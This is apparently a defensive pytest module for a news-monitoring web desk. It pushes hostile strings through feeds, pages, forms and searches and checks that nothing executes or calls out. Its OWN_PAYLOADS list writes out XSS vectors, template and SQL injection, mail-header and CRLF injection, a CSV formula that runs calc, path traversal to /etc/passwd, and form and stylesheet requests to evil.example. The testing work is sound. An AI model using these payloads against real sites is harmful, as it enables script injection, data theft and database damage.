"""What hostile outlets wrote, on the real desk: read by a client and in a real browser.

Payloads stand in every field of a feed and of a page; the product reads them, mails them and shows
them. Nothing may run, nothing foreign may be asked for, and no page may break.
"""

from __future__ import annotations

import html
import json
import os
import re
import ssl
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, TypeVar
from urllib.parse import quote
from xml.sax.saxutils import escape

import httpx
import pytest

from monitor.serving import desk_for
from monitor.web.security import POLICY
from monitor.web.server import create, serve
from tests.hostile.looking import (
    assert_tame,
    in_a_browser,
    kind_of,
    type_everywhere,
    witness,
)

if TYPE_CHECKING:
    from contextlib import AbstractContextManager

    from playwright.sync_api import Browser

    from tests.hostile.conftest import Hostile, Paper

    Open = Callable[[Path, Mapping[str, Mapping[str, object]]], AbstractContextManager[Paper]]

SHARED = Path(os.environ.get("TORKHAM_SHARED", Path(__file__).resolve().parents[3] / "shared"))
HOSTILE = SHARED / "data" / "hostile"
Test = TypeVar("Test", bound=Callable[..., None])
PLACE = "http://127.0.0.1/"
A_FEED = 20  # items; more at once would be a storm of alerts
NO_TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # reading the certificates takes 40 ms a time


OWN_PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "]]><script>alert(3)</script>",
    "<img src=x onerror=alert(4)>",
    '"><svg/onload=alert(5)>',
    "'\"><img src=http://evil.example/p.png>",
    '" autofocus onfocus=alert(6) x="',
    "javascript:alert(7)",
    "<base href=http://evil.example/><link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0; url=http://evil.example/'>",
    "<form action=http://evil.example/><input name=token><button>Relevant</button></form>",
    "<a id=decision name=said href=javascript:alert(8)>clobbered</a>",
    "<iframe srcdoc='<script>parent.alert(9)</script>'></iframe>",
    "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example/y)}</style>",
    (
        "<math><mtext></table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror=alert(10)&gt;'>"
    ),
    "&lt;script&gt;alert(11)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(12)&amp;lt;/script&amp;gt;",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "\u202e<script>\u202calert(13)</script>",
    "a\u2028b\u2029c\x1b[31m\x07\x9b31m",
    "=cmd|' /C calc'!A0",
    "%0d%0aSet-Cookie: a=b\r\nBcc: x@evil.example",
    "=?UTF-8?Q?=0ABcc:_x@evil.example?=",
    "../../../../etc/passwd\x00.html",
    "'; DROP TABLE articles; --",
    '" OR NEAR("a", "b") AND * ^x : (',
    "\U000e0041\ufeff\u200b\u2066\u2069\ud800x",
    "ﷺ" * 40,
    "Ż̴̢̛͈̫̱͙̤̲̫̯̪̟̰̩" * 20,
    "x" * 3_000,
)


def shared_payloads(xss: int, strings: int) -> list[str]:
    """So many of each kind kept outside, evenly drawn; none where they are absent."""
    found: list[str] = []
    for name, most in (("xss.json", xss), ("naughty_strings.json", strings)):
        if (HOSTILE / name).exists() and most:
            rows = json.loads((HOSTILE / name).read_text())
            held = [row["p"] if isinstance(row, dict) else row for row in rows]
            found += held[:: max(1, len(held) // most)][:most]
    return found


# --- a newsroom of payloads -----------------------------------------------------------------


def cdata(text: str) -> str:
    return "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def entry(number: int, payload: str) -> str:
    """An item with the payload in every field, as text, as CDATA or raw, in turn."""
    as_given = (escape, cdata, lambda text: escape(escape(text)), lambda text: text)[number % 4]
    said = as_given(payload)
    title = said if number % 4 != 3 else escape(payload)
    link = f"{PLACE}{number}/{quote(payload, safe='', errors='replace')[:600]}"
    full = f"<p>{payload}</p><p>{escape(payload)}</p>" + "<p>The border was shut again.</p>" * 60
    return (
        f"<item><title>TTP at Torkham: {title}</title><link>{link}</link>"
        f"<guid isPermaLink='false'>{escape(payload)}-{number}</guid>"
        f"<author>{said}</author><dc:creator>{escape(payload)}</dc:creator>"
        f"<category>{said}</category><category domain={html_attribute(payload)}>x</category>"
        f"<description>{said}</description><pubDate>{escape(payload)}</pubDate>"
        + (f"<content:encoded>{cdata(full)}</content:encoded>" if number % 2 else "")
        + "</item>"
    )


def html_attribute(text: str) -> str:
    return f'"{html.escape(text)}"'


def document(items: list[str], payload: str) -> bytes:
    said = escape(payload)
    text = (
        "<?xml version='1.0' encoding='utf-8'?><rss version='2.0'"
        " xmlns:content='http://purl.org/rss/1.0/modules/content/'"
        f" xmlns:dc='http://purl.org/dc/elements/1.1/'><channel><title>{said}</title>"
        f"<link>{PLACE}</link><description>{said}</description>{''.join(items)}</channel></rss>"
    )
    return text.encode("utf-8", "replace")


def page(paper: Paper, number: int, payload: str) -> bytes:
    quoted = html_attribute(payload)
    head = (
        f"<meta name=author content={quoted}><meta property=og:title content={quoted}>"
        f"<meta property=article:published_time content={quoted}><link rel=canonical href={quoted}>"
    )
    more = f"<p>{html.escape(payload)} said a witness at the crossing.</p><p>{payload}</p>"
    return paper.story(f"page {number}", head, more)


def fill(paper: Paper, payloads: list[str]) -> None:
    """Serve the payloads in feeds and pages, and let the product work for a day."""
    batches = [payloads[at : at + A_FEED] for at in range(0, len(payloads), A_FEED)]
    for feed, some in enumerate(batches):
        items = [entry(feed * A_FEED + n, payload) for n, payload in enumerate(some)]
        paper.put(f"feed-{feed}", document(items, some[0]))
        for n, payload in enumerate(some):
            number = feed * A_FEED + n
            path = f"/p/feed-{feed}/{number}/{quote(payload, safe='', errors='replace')[:600]}"
            made = page(paper, number, payload)
            paper.serve(path, made, "Content-Type: text/html; charset=utf-8")
    broken = f'{{"error": {json.dumps("".join(OWN_PAYLOADS[:5]))}}}'
    paper.serve("/broken", broken.encode(), "Content-Type: application/json")
    paper.serve("/walled", b"<title><script>alert(1)</script></title>", status="403 <b>no</b>")
    paper.serve("/moved", b"", f"Location: {OWN_PAYLOADS[6]}", status="302 Found")
    paper.day()
    paper.work("poll", "harvest", "judge", "alert", "send")


def feeds_for(payloads: list[str]) -> dict[str, dict[str, object]]:
    full = -(-len(payloads) // A_FEED)
    return {**{f"feed-{n}": {} for n in range(full)}, "broken": {}, "walled": {}, "moved": {}}


OF_A_KIND = 12


@dataclass
class Reader:
    """A client on the desk; it follows nothing by itself."""

    paper: Paper
    url: str
    client: httpx.Client

    def get(self, path: str) -> httpx.Response:
        """Ask for a page, which must bear the policy and be a page or lead to one of ours."""
        answer = self.client.get(path)
        policy = answer.headers["content-security-policy"]
        assert policy == POLICY or path.startswith("/pictures/") or "/page." in path, path
        assert "script-src 'self'" in policy or "default-src 'none'" in policy, path
        assert answer.status_code in {200, 303}, (path, answer.status_code)
        assert answer.headers.get("location", "/").startswith("/"), path
        return answer

    def crawl(self) -> dict[str, str]:
        """Return every article and up to so many of each other kind of page that links lead to."""
        found: dict[str, str] = {}
        kinds: Counter[str] = Counter()
        wanted = ["/", "/search?q=Torkham"]
        while wanted:
            path = wanted.pop()
            kind = kind_of(path)
            if path in found or path.startswith("/static/") or kinds[kind] >= OF_A_KIND:
                continue
            kinds[kind] += kind != "/articles/N"
            answer = self.get(path)
            if not answer.headers.get("content-type", "text/html").startswith("text/html"):
                continue  # a picture, a feed, a table: no page
            found[path] = text = answer.text
            links = (html.unescape(link) for link in re.findall(r'href="([^"]*)"', text))
            wanted += [link.partition("#")[0] for link in links if re.match(r"/(?!/)", link)]
        return found


@contextmanager
def desk_over(paper: Paper) -> Iterator[Reader]:
    with (
        serve(create(desk_for(paper.app))) as serving,
        httpx.Client(base_url=serving.url, trust_env=False, verify=NO_TLS, timeout=30) as client,
    ):
        yield Reader(paper=paper, url=serving.url.rstrip("/"), client=client)


@pytest.fixture(scope="module")
def reader(open_paper: Open, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Reader]:
    """The desk over our own payloads and some of the others."""
    payloads = [*OWN_PAYLOADS, *shared_payloads(xss=12, strings=18)]
    with open_paper(tmp_path_factory.mktemp("desk"), feeds_for(payloads)) as paper:
        fill(paper, payloads)
        with desk_over(paper) as desk:
            yield desk


# --- read by a client -----------------------------------------------------------------------


def test_payloads_reach_the_queue_and_the_books_balance(reader: Reader) -> None:
    """Otherwise the tests below would look at an empty desk."""
    paper = reader.paper
    (queued,) = paper.rows("SELECT count(*) AS n FROM articles WHERE disposition = 'queued'")
    assert queued["n"] > 0.7 * len(OWN_PAYLOADS)
    assert paper.balanced()
    kinds = {row["text_from"] for row in paper.rows("SELECT text_from FROM articles")}
    assert {"page", "feed"} <= kinds
    assert {"parse_limit"} & {
        row["outcome"] for row in paper.rows("SELECT outcome FROM polls")
    } == set()


def test_no_payload_leaves_a_control_character_in_the_store(reader: Reader) -> None:
    assert reader.paper.unclean() == []


def test_no_payload_gains_a_header_a_reader_or_markup_in_a_mail(reader: Reader) -> None:
    # Ten alerts and an edition to each of two readers; which titles are told as one story hangs
    # on the order in which the pages come, so that some runs have an alert less.
    assert len(reader.paper.post.envelopes) > 10
    assert reader.paper.bad_letters() == []


def test_no_payload_names_a_file(reader: Reader) -> None:
    assert reader.paper.strays() == []


@pytest.mark.slow
def test_every_page_reachable_by_links_stands_under_the_policy(reader: Reader) -> None:
    pages = reader.crawl()
    kinds = {path.split("?")[0].rstrip("0123456789-") for path in pages}
    assert {"/", "/queue", "/articles/", "/search", "/why", "/coverage", "/ledger"} <= kinds
    assert {"/coverage/feed", "/ledger/items", "/digests", "/digests/", "/alerts"} <= kinds
    articles = reader.paper.rows("SELECT count(*) AS n FROM articles")[0]["n"]
    read = [path for path in pages if re.fullmatch(r"/articles/\d+", path)]
    assert len(read) == articles
    assert len([path for path in pages if path.endswith("/explanation")]) == OF_A_KIND
    for path, text in pages.items():
        assert_tame(path, text)


@pytest.mark.slow
def test_any_string_can_be_typed_into_any_form(
    open_paper: Open, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Tags, notes, pins, rules, names, searches: shown as the text they are, and nothing breaks."""
    with open_paper(tmp_path_factory.mktemp("typed"), feeds_for(["x"])) as paper:
        fill(paper, ["plain"] * 20)
        with desk_over(paper) as desk:
            kinds = type_everywhere(desk.client, desk.crawl().values(), OWN_PAYLOADS, each=10)
            assert {"/articles/N/decision", "/articles/N/tags", "/searches", "/timeline"} <= kinds
            assert {"/settings/rules/try", "/settings/feeds/look"} <= kinds, kinds
            for path, text in desk.crawl().items():
                assert_tame(path, text)
            assert paper.balanced()


@pytest.mark.slow
def test_any_string_can_be_searched_for_and_looked_up(reader: Reader) -> None:
    """A query is data: no syntax of the index, no address and no template breaks the page."""
    asked_for = [
        quote(text, safe="", errors="replace")
        for text in [*OWN_PAYLOADS, *shared_payloads(xss=20, strings=130)]
    ]
    for asked in [*asked_for, "%ff%fe", "%00", "%ed%a0%80", "%", "+%2B%26"]:
        reader.get(f"/search?q={asked[:3000]}")
        reader.get(f"/why?url={asked[:3000]}")


@pytest.mark.slow
def test_any_string_can_be_a_note_and_a_name(reader: Reader) -> None:
    """What people type is shown as the text it is, as well."""
    for text in OWN_PAYLOADS:
        named(reader, text.encode("utf-8", "replace").decode())
        assert "<b>" not in reader.get("/you").text
    note = "<img src=x onerror=alert(1)>"
    shown = reader.get(f"/articles/{decided(reader, note)}").text
    assert html.escape(note) in shown
    assert note not in shown


def named(reader: Reader, name: str) -> None:
    token = re.search(r'name="token" value="(\w+)"', reader.get("/you").text)
    assert token
    answer = reader.client.post("/you", data={"token": token[1], "name": name})
    assert answer.status_code == 303


def decided(reader: Reader, note: str) -> int:
    """Answer an article that waits, with a note; return its number."""
    waiting = "SELECT id, version FROM articles WHERE disposition = 'queued' AND decision IS NULL"
    row = reader.paper.rows(waiting)[0]
    token = re.search(r'name="token" value="(\w+)"', reader.get("/you").text)
    assert token
    form = {"token": token[1], "answer": "unsure", "version": row["version"], "standing": ""}
    path = f"/articles/{row['id']}/decision"
    assert reader.client.post(path, data={**form, "note": note}).status_code == 303
    return int(row["id"])


# --- in a browser ---------------------------------------------------------------------------


@in_a_browser
@pytest.mark.parametrize("script", [True, False])
def test_the_witness_sees_what_it_is_there_to_see(
    hostile: Hostile, make_answer: Callable[..., bytes], browser: Browser, script: bool
) -> None:
    """A page that does everything forbidden is noticed, with and without the policy."""
    bad = (
        b"<html><head><link rel=icon href=data:,></head><body><main><p style='color:red'>x"
        b"<script>alert(1)</script><img src=http://evil.example/a.png></main></body></html>"
    )
    hostile.answers["/bare"] = make_answer(bad, "200 OK", "Content-Type: text/html")
    policy = f"Content-Security-Policy: {POLICY}"
    hostile.answers["/held"] = make_answer(bad, "200 OK", "Content-Type: text/html", policy)
    with witness(browser, hostile.url(""), script=script) as eye:
        bare = " ".join(eye.read(hostile.url("/bare")))
        assert "request http://evil.example/a.png" in bare
        assert ("alert:1" in bare) is script
        held = " ".join(eye.read(hostile.url("/held")))
        assert "Content Security Policy" in held
        assert ("refused img-src" in held) is script


def browse(
    browser: Browser, reader: Reader, *, script: bool, every: int, policy: bool = True
) -> None:
    """Open every ``every``-th page of each kind, and searches, and see nothing at all."""
    first = 0 if policy or every == 1 else 1  # the other half, with the policy stripped
    by_kind: dict[str, list[str]] = {}
    for path in sorted(reader.crawl()):
        by_kind.setdefault(kind_of(path), []).append(path)
    paths = [path for some in by_kind.values() for path in (some[first::every] or some[:1])]
    texts = [*OWN_PAYLOADS, *shared_payloads(xss=20, strings=80)][::every]
    paths += [f"/search?q={quote(text, safe='', errors='replace')[:1500]}" for text in texts]
    paths += [f"/why?url={quote(text, safe='', errors='replace')[:1500]}" for text in texts[::5]]
    with witness(browser, reader.url, script=script, policy=policy) as eye:
        faults = {path: seen for path in paths if (seen := eye.read(reader.url + path))}
    assert faults == {}
    assert len(paths) > 25


@in_a_browser
@pytest.mark.parametrize(
    ("script", "every", "policy"), [(True, 16, True), (True, 8, False), (False, 16, True)]
)
def test_nothing_runs_and_nothing_is_asked_of_others_on_any_page(
    reader: Reader, browser: Browser, script: bool, every: int, policy: bool
) -> None:
    """No script, no dialog, no request elsewhere and nothing for the policy to refuse.

    Nor with the policy stripped from every answer: it is the second wall and not the first.
    """
    browse(browser, reader, script=script, every=every, policy=policy)
    assert reader.paper.bad_letters() == []
    assert reader.paper.unclean() == []
    assert reader.paper.strays() == []


@in_a_browser
def test_no_string_makes_a_page_wider_than_a_telephone(reader: Reader, browser: Browser) -> None:
    """Three thousand letters without a space, stacked accents, addresses: all break or scroll."""
    named(reader, "x" * 60)  # whoever answered is named in tables
    decided(reader, "y" * 900)
    kinds: Counter[str] = Counter()
    paths = []
    for path in reader.crawl():
        kinds[kind_of(path)] += 1
        if kinds[kind_of(path)] <= 3 and not path.startswith(("/why?", "/queue?")):
            paths.append(path)
    paths += [f"/why?url=http://a.example/{'x' * 900}", f"/search?q={'x' * 500}"]
    context = browser.new_context(
        viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True
    )
    page = context.new_page()
    wide = {}
    for path in paths:
        page.goto(reader.url + path)
        if (width := page.evaluate("document.documentElement.scrollWidth")) > 390:
            wide[path] = width
    context.close()
    assert wide == {}
